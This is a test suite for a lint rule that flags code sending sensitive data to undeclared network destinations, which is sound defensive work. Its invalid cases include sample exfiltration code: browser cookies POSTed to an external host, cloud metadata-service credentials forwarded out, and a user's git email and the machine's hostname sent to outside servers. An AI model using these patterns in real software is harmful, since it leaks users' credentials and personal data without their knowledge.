import rule from '../../rules/no-sensitive-egress.ts';
import { inProject, tester } from '../support/tester.ts';

const filename = inProject('flows');
/** Code that is made of more than is followed, each part of it of another. */
const tangled = (of: number): string => `const a0 = ${JSON.stringify('x')} + b();\n${Array.from({ length: of }, (_, i) => `const a${i + 1} = c(a${i}, { x: d(${i}), y: e(${i}) });`).join('\n')}\n`;
const body = (text: string): string => `{ method: 'POST', body: ${text} }`;

tester.run('no-sensitive-egress', rule, {
  assertionOptions: { requireMessage: 'messageId', requireLocation: true },
  valid: [
    { name: 'data that the entry declares', filename, code: `fetch('https://device.example.com', ${body("require('node:os').platform()")})` },
    { name: 'what says nothing of anybody', filename, code: `fetch('https://quiet.example.com', ${body("JSON.stringify({ count: 1 })")})` },
    { name: 'a destination on this machine', filename, code: `fetch('http://localhost:3000', ${body('document.cookie')})` },
    { name: 'a relative destination', filename, code: `fetch('/users', ${body('document.cookie')})` },
    { name: 'what git says of the code', filename, code: `fetch('https://quiet.example.com', ${body("require('node:child_process').execSync('git describe --tags')")})` },
    { name: 'much that is made of nothing of anybody', filename, code: `${tangled(100)}fetch('https://quiet.example.com', ${body('a100')})` },
    { name: 'the address of a mailbox that is nobody\'s', filename, code: "import * as Sentry from '@sentry/node'; Sentry.setUser({ email: 'no-reply@example.com' })" },
    { name: 'an address that is a form', filename, code: "import * as Sentry from '@sentry/node'; Sentry.setUser({ email: 'not an address' })" },
    { name: 'an SDK that is handed nothing of anybody', filename, code: "import * as Sentry from '@sentry/node'; Sentry.setTag('plan', 'free')" },
    { name: 'a callback of a function that hands over no scope', filename, code: "import * as Sentry from '@sentry/node'; export const f = (user: { email: string }) => [Sentry].map((scope) => scope.other((inner) => inner.setTag('a', user.email)))" },
    { name: 'more than is followed, where a parameter says where to', filename, code: `${tangled(3000)}export const f = (to: string) => fetch(to, ${body('a3000')});` },
    { name: 'more than is followed, to where nobody knows and no-undeclared-egress says so', filename, code: `${tangled(3000)}import { at } from 'anywhere'; fetch(at(), ${body('a3000')});` },
    { name: 'what a started program says, for what it was started with', filename, code: "import { start } from 'starts-programs'; export const f = async () => { const program = start({ env: process.env }); new WebSocket(await program.waitForAddress()); }" },
    { name: 'an address that nobody knows, beside a name', filename, code: "import { at } from 'anywhere'; const kept = { email: at() }; export const f = (key: string) => fetch(at({ email: kept.email })[key]);" },
    { name: 'the answer of a service that hands out nothing by itself', filename, code: `fetch('http://localhost/latest').then((answer) => answer.text()).then((text) => fetch('https://quiet.example.com', ${body('text')}))` },
    { name: 'a credential that says who calls', filename, code: "fetch('https://quiet.example.com', { headers: { authorization: process.env.API_TOKEN } })" },
  ],
  invalid: [
    {
      name: 'data that the entry does not declare', filename, code: `fetch('https://quiet.example.com', ${body('document.cookie')})`,
      errors: [{ messageId: 'uncovered', data: { api: 'fetch', via: '', data: 'document.cookie (user.device.cookie)', to: 'https://quiet.example.com', endpoint: 'quiet', categories: 'user.device.cookie', path: 'src/example.ts:1' }, line: 1, column: 1, endLine: 1, endColumn: 78 }],
    },
    {
      name: 'credentials of the machine, which a metadata service hands out', filename, code: `const f = async () => { const answer = await fetch('http://169.254.169.254/latest'); await fetch('https://quiet.example.com', ${body('await answer.text()')}); }`,
      errors: [{ messageId: 'uncovered', line: 1, column: 92, endLine: 1, endColumn: 173 }],
    },
    {
      name: 'a destination that nothing declares', filename, code: `fetch('https://out.example.com', ${body('navigator.userAgent')})`,
      errors: [{ messageId: 'undeclared', line: 1, column: 1, endLine: 1, endColumn: 80 }],
    },
    {
      name: 'what an SDK is handed that is started elsewhere', filename, code: "import * as Sentry from '@sentry/node'; export const f = (user: { email: string }) => Sentry.setUser({ email: user.email })",
      errors: [{ messageId: 'undeclared', line: 1, column: 87, endLine: 1, endColumn: 124 }],
    },
    {
      name: 'what the scope is handed that an SDK hands to a callback', filename, code: "import * as Sentry from '@sentry/node'; export const f = (user: { email: string }) => Sentry.withScope((scope) => { scope.setTag('mail', user.email) })",
      errors: [{ messageId: 'undeclared', line: 1, column: 117, endLine: 1, endColumn: 149 }],
    },
    {
      name: 'what an event is handed in a function that is an option', filename, code: "import Bugsnag from '@bugsnag/js'; export const f = (user: { id: string, email: string }) => Bugsnag.start({ apiKey: 'a', onError: (event) => { event.setUser(user.id, user.email) } })",
      errors: [{ messageId: 'undeclared', line: 1, column: 145, endLine: 1, endColumn: 179 }],
    },
    {
      name: 'an address that is written out', filename, code: "import * as Sentry from '@sentry/node'; Sentry.setUser({ email: 'jane.doe@example.com' })",
      errors: [{ messageId: 'undeclared', line: 1, column: 41, endLine: 1, endColumn: 90 }],
    },
    {
      name: 'an IP address, by its name', filename, code: "import * as Sentry from '@sentry/node'; export const f = (user: { ip_address: string }) => Sentry.setTag('from', user.ip_address)",
      errors: [{ messageId: 'undeclared', line: 1, column: 92, endLine: 1, endColumn: 130 }],
    },
    {
      name: 'what git says of a person', filename, code: `fetch('https://quiet.example.com', ${body("require('node:child_process').execSync('sudo git config --get user.email')")})`,
      errors: [{ messageId: 'uncovered', data: { api: 'fetch', via: '', data: 'git config --get user.email (user.contact.email)', to: 'https://quiet.example.com', endpoint: 'quiet', categories: 'user.contact.email', path: 'src/example.ts:1' }, line: 1, column: 1, endLine: 1, endColumn: 137 }],
    },
    {
      name: 'more than is followed', filename, code: `${tangled(3000)}fetch('https://quiet.example.com', ${body('a3000')})`,
      errors: [{ messageId: 'partial', data: { api: 'fetch', via: '', others: '' }, line: 3002, column: 1, endLine: 3002, endColumn: 68 }],
    },
    {
      name: 'one way to two ways to connect, once', filename, code: "import net from 'node:net'; import tls from 'node:tls'; import os from 'node:os'; export const f = (safe: boolean) => { let socket = net.connect(25, 'out.example.com'); if (safe) socket = tls.connect(25, 'out.example.com'); socket.write(os.hostname()); }",
      errors: [{ messageId: 'undeclared', line: 1, column: 134, endLine: 1, endColumn: 168 }],
    },
    {
      name: 'what a started program is asked', filename, code: "import { start } from 'starts-programs'; export const f = () => { const program = start({ env: process.env }); new WebSocket(program.address()); }",
      errors: [{ messageId: 'undeclared', line: 1, column: 112, endLine: 1, endColumn: 144 }],
    },
    {
      name: 'more than is followed, to where nobody knows and the manifest permits it', filename: inProject('declared', 'src/registry.ts'), code: `${tangled(3000)}import { at } from 'anywhere'; fetch(at(), ${body('a3000')});`,
      errors: [{ messageId: 'partial', data: { api: 'fetch', via: '', others: '' }, line: 3002, column: 32, endLine: 3002, endColumn: 76 }],
    },
    {
      name: 'more than is followed, at several calls of a file, once', filename, code: `${tangled(3000)}${`fetch('https://quiet.example.com', ${body('a3000')});\n`.repeat(3)}`,
      errors: [{ messageId: 'partial', data: { api: 'fetch', via: '', others: ', as do 2 more calls of this file' }, line: 3002, column: 1, endLine: 3002, endColumn: 68 }],
    },
  ],
});
